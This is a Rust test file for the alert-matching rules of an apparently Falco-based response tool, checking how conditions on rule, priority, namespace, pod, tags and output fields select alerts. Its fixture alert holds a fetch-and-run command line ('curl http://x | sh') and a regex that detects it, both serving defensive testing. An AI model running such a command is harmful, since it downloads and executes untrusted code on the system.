//! Which alerts a `match` is for.

use riposte_responses::testing::{POD, web};
use riposte_sdk::Event;
use riposte_sdk::testing;

use super::with_rule;

/// An alert with a value of each type.
const ALERT: &str = r#"{
    "rule": "Terminal shell in container", "priority": "Warning", "source": "syscall", "tags": ["shell", "T1059"],
    "output_fields": {
        "k8s.ns.name": "default", "k8s.pod.name": "web-77789455d6-m7flp",
        "container.image.repository": "alpine", "container.image.tag": "3.20",
        "proc.cmdline": "sh -c curl http://x | sh", "proc.aname[2]": "bash", "proc.tty": 34816, "fd.rport": "443",
        "proc.is_exe_writable": true, "evt.time": 1623612958532086161, "fd.ips": ["10.0.0.1", "8.8.8.8"],
        "user.name": "<NA>", "proc.pname": null, "proc.exe": "", "evt.arg": {"a": "b"}
    }
}"#;

fn alert() -> Event {
    testing::falco(ALERT)
}

/// Each row is a `match` and the key that does not hold, if there is one.
#[track_caller]
fn assert_each(event: &Event, table: &[(&str, Option<&str>)]) {
    for (when, misses) in table {
        let setup = with_rule(when, "ignore").owner("default", POD, &web("batch/v1/CronJob"));
        let expected = match misses {
            None => "ignore: rule \"it\" matches: its action is ignore".to_owned(),
            Some(key) => format!("ignore: no rule matches: tried \"it\" ({key})"),
        };
        assert_eq!(setup.handle(event.clone()).to_string(), expected, "{when}");
    }
}

#[test]
fn each_key_asks_for_one_thing() {
    assert_each(
        &alert(),
        &[
            ("{ rule: Terminal shell in container }", None),
            ("{ rule: terminal shell in container }", Some("rule")),
            ("{ source: syscall }", None),
            ("{ source: k8s_audit }", Some("source")),
            ("{ namespace: default }", None),
            ("{ namespace: kube-system }", Some("namespace")),
            ("{ pod: { prefix: web- } }", None),
            ("{ pod: { prefix: db- } }", Some("pod")),
            ("{ image: 'alpine:3.20' }", None),
            ("{ image: alpine }", Some("image")),
            ("{ tag: shell }", None),
            ("{ tag: { prefix: T1 } }", None),
            ("{ tag: [network, T1059] }", None),
            ("{ tag: she }", Some("tag")),
            ("{ ownerKind: [CronJob, Job] }", None),
            ("{ ownerKind: Deployment }", Some("ownerKind")),
            ("{ rule: Terminal shell in container, namespace: shop, pod: x }", Some("namespace")),
        ],
    );
}

#[test]
fn priorities_are_compared() {
    assert_each(
        &alert(),
        &[
            ("{ priority: { atLeast: Warning } }", None),
            ("{ priority: { atLeast: Debug } }", None),
            ("{ priority: { atLeast: Error } }", Some("priority")),
            ("{ priority: { atMost: Warning } }", None),
            ("{ priority: { atMost: Notice } }", Some("priority")),
            ("{ priority: { atLeast: Notice, atMost: Error } }", None),
        ],
    );
}

#[test]
fn a_text_is_exact_one_of_or_as_operators_say() {
    assert_each(
        &alert(),
        &[
            ("{ namespace: [shop, default] }", None),
            ("{ namespace: [shop, { prefix: def }] }", None),
            ("{ namespace: [shop, [blog]] }", Some("namespace")),
            ("{ namespace: { exact: default } }", None),
            ("{ namespace: { exact: def } }", Some("namespace")),
            ("{ namespace: { suffix: ault } }", None),
            ("{ namespace: { suffix: def } }", Some("namespace")),
            ("{ namespace: { glob: 'd*t' } }", None),
            ("{ namespace: { glob: 'd?t' } }", Some("namespace")),
            ("{ namespace: { regex: fau } }", None),
            ("{ namespace: { regex: '^fau' } }", Some("namespace")),
            ("{ namespace: { oneOf: [shop, { glob: 'def*' }] } }", None),
            ("{ namespace: { oneOf: [shop] } }", Some("namespace")),
            ("{ namespace: { prefix: def, suffix: ult } }", None),
            ("{ namespace: { prefix: def, suffix: x } }", Some("namespace")),
        ],
    );
}

#[test]
fn output_fields_are_compared_by_their_text() {
    assert_each(
        &alert(),
        &[
            (r"{ fields: { proc.cmdline: { regex: 'curl\b.*\|\s*sh' } } }", None),
            ("{ fields: { 'proc.aname[2]': bash } }", None),
            ("{ fields: { proc.tty: 34816 } }", None),
            ("{ fields: { proc.tty: '34816' } }", None),
            ("{ fields: { proc.tty: 0 } }", Some("proc.tty")),
            ("{ fields: { fd.rport: [22, 443] } }", None),
            ("{ fields: { fd.rport: { exact: 443 } } }", None),
            ("{ fields: { proc.is_exe_writable: true } }", None),
            ("{ fields: { evt.time: 1623612958532086161 } }", None),
            ("{ fields: { evt.time: 1623612958532086160 } }", Some("evt.time")),
            ("{ fields: { fd.ips: { prefix: '8.' } } }", None),
            ("{ fields: { fd.ips: { prefix: '9.' } } }", Some("fd.ips")),
            ("{ fields: { evt.arg: { glob: '*' } } }", Some("evt.arg")),
            ("{ fields: { proc.tty: 34816, proc.sid: 1 } }", Some("no proc.sid")),
        ],
    );
}

#[test]
fn all_any_and_not_combine() {
    assert_each(
        &alert(),
        &[
            ("{ all: [{ tag: shell }, { tag: T1059 }] }", None),
            ("{ all: [{ tag: shell }, { source: x }] }", Some("source")),
            ("{ any: [{ source: x }, { tag: shell }] }", None),
            ("{ any: [{ source: x }, { tag: y }] }", Some("any")),
            ("{ not: { namespace: shop } }", None),
            ("{ not: { namespace: default } }", Some("not")),
            ("{ not: { not: { namespace: default } } }", None),
            ("{ namespace: default, any: [{ not: { tag: shell } }, { all: [{ tag: shell }] }] }", None),
            ("{ namespace: shop, any: [{ tag: shell }] }", Some("namespace")),
        ],
    );
}

#[test]
fn what_is_not_there_holds_for_nothing() {
    assert_each(
        &alert(),
        &[
            ("{ fields: { user.name: { glob: '*' } } }", Some("no user.name")),
            ("{ fields: { proc.pname: { glob: '*' } } }", Some("no proc.pname")),
            ("{ fields: { proc.exe: { glob: '*' } } }", Some("no proc.exe")),
            ("{ not: { fields: { user.name: root } } }", None),
        ],
    );
    let bare = [
        ("{ rule: { glob: '*' } }", Some("no rule")),
        ("{ priority: { atLeast: Debug } }", Some("no priority")),
        ("{ tag: { glob: '*' } }", Some("no tag")),
        ("{ source: { glob: '*' } }", Some("no source")),
        ("{ namespace: { glob: '*' } }", Some("no namespace")),
        ("{ pod: { glob: '*' } }", Some("no pod")),
        ("{ image: { glob: '*' } }", Some("no image")),
        ("{ ownerKind: { glob: '*' } }", Some("no ownerKind")),
        ("{ not: { priority: { atLeast: Debug } } }", None),
    ];
    let host = r#"{"priority":"","tags":null,"output_fields":{"k8s.ns.name":null,"k8s.pod.name":"<NA>"}}"#;
    for event in ["{}", host, r#"{"priority":"Loud","rule":"","output_fields":null}"#] {
        let loud = event.contains("Loud");
        let skip_priority = bare.iter().filter(|(when, _)| !(loud && when.contains("priority")));
        assert_each(&testing::falco(event), &skip_priority.copied().collect::<Vec<_>>());
    }
}

#[test]
fn a_hostile_text_takes_no_more_than_its_length() {
    let cmdline = "a".repeat(100_000);
    let event = testing::falco(&format!(r#"{{"rule":"x","output_fields":{{"proc.cmdline":"{cmdline}"}}}}"#));
    assert_each(
        &event,
        &[
            ("{ fields: { proc.cmdline: { regex: '(a*)*b' } } }", Some("proc.cmdline")),
            ("{ fields: { proc.cmdline: { regex: '(a|aa)+$' } } }", None),
            ("{ fields: { proc.cmdline: { glob: '*a*a*a*b' } } }", Some("proc.cmdline")),
        ],
    );
}
